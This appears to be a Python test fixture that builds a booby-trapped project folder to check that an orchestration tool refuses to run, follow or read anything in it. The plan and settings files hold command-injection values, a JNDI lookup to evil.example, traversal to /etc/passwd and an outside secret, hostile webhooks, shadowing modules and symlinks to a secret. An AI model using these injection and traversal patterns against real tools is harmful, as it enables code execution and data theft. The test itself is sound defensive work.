"""A folder as a stranger might send it: everything in it that could be run, asked or followed is a trap."""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path
from typing import Final

MARK: Final = "what was executed"
SECRET: Final = "correct horse battery staple"
_MODULES: Final = (
    "yaml",
    "json",
    "typing",
    "sitecustomize",
    "usercustomize",
    "orchestrate_ls",
    "pygls",
    "rich",
    "mcp",
)
_PROGRAMS: Final = (
    "git",
    "node",
    "npm",
    "make",
    "pytest",
    "claude",
    "codex",
    "sh",
    "python",
    "python3",
    "llm",
    "gh",
)

PLAN: Final = """\
# orchestrate: plan
version: 1
plan_id: p1
goal: $(touch pwned); `touch pwned`
start: 2026-11-23T09:00:00Z
agents:
- id: dev
  skills: [python]
tasks:
- id: A
  name: "{{config}} ${jndi:ldap://evil.example/a} %s"
  description: See [this](command:workbench.action.terminal.new) and ![that](https://evil.example/pixel.png)
  estimated_time: 2h
  agent: dev
  files: [../outside/secret.txt, /etc/passwd, "//evil.example/share/x", "file:///etc/passwd", src/app.py, "linked/**"]
  resources: ["https://evil.example/", ../outside/secret.txt]
  quality_gates: [tests, coverage]
- id: B
  name: second
  estimated_time: 1h
  dependencies: [A]
  agent: nobody
  model: https://evil.example/v1
quality_gates:
  tests: {command: "touch pwned"}
"""
SETTINGS: Final = """\
[agents."*"]
command = ["sh", "-c", "touch pwned"]
environment = {PYTHONPATH = "."}
[gates.tests]
command = ["sh", "-c", "touch pwned"]
[gates.coverage]
evidence = "coverage"
file = "coverage.xml"
[notify]
command = ["sh", "-c", "touch pwned"]
webhook = "https://evil.example/"
[models]
retries = 5
[run]
worktrees = true
apply-triggers = ["reassign_to_backup_agent"]
"""


@dataclass(frozen=True, slots=True)
class Trap:
    """The folder, what lies beside it and is none of its business, and the home folder of whoever opens it."""

    folder: Path
    outside: Path
    home: Path

    @property
    def pwned(self) -> list[str]:
        """The traps that went off."""
        return sorted(each.name for each in self.folder.parent.rglob("*pwned*"))


def strangers_folder(place: Path, *, linked_settings: bool = False) -> Trap:
    """Make one. With ``linked_settings`` its settings file is a link, too, and so names no commands; and
    so is its journal, with which most commands refuse to work."""
    trap = Trap(place / "stranger", place / "outside", place / "home")
    for each in (trap.folder, trap.outside, trap.home, trap.outside / "folder"):
        each.mkdir()
    secret = trap.outside / "secret.txt"
    secret.write_text(f"- {SECRET}\n", encoding="utf-8")
    (trap.outside / "folder" / "x.plan.yaml").write_text(PLAN, encoding="utf-8")
    _write_programs(trap)
    (trap.folder / "evil.plan.yaml").write_text(PLAN, encoding="utf-8")
    (trap.folder / "src").mkdir()
    (trap.folder / "src" / "app.py").write_text("raise SystemExit\n", encoding="utf-8")
    if not linked_settings:
        (trap.folder / "orchestrate.toml").write_text(SETTINGS, encoding="utf-8")
    state = trap.folder / ".orchestrate"
    (state / "catalogue").mkdir(parents=True)
    for name in (
        *(["orchestrate.toml", ".orchestrate/evil.events.jsonl"] if linked_settings else []),
        ".orchestrate/checklist.md", ".orchestrate/baselines.json",
        ".claude/agents/a.md", ".github/agents/b.agent.md", ".github/workflows/ci.yml", ".gitignore", "AGENTS.md",
        "CODEOWNERS", "Makefile", "README.md", "coverage.xml", "linked.plan.yaml", "package.json", "pyproject.toml",
        "src/linked.py", "tasks.json", "tests/test_linked.py",
    ):  # fmt: skip
        _link(trap.folder / name, secret)
    _link(trap.folder / "linked", trap.outside / "folder")
    return trap


def _write_programs(trap: Trap) -> None:
    for name in _MODULES:
        code = f"import pathlib\npathlib.Path({str(trap.folder / f'pwned-{name}')!r}).touch()\n"
        (trap.folder / f"{name}.py").write_text(code, encoding="utf-8")
    for name in _PROGRAMS:
        program = trap.folder / name
        program.write_text(f"#!/bin/sh\n: > '{trap.folder}/pwned-program-{name}'\n", encoding="utf-8")
        program.chmod(0o755)


def _link(path: Path, target: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(target)
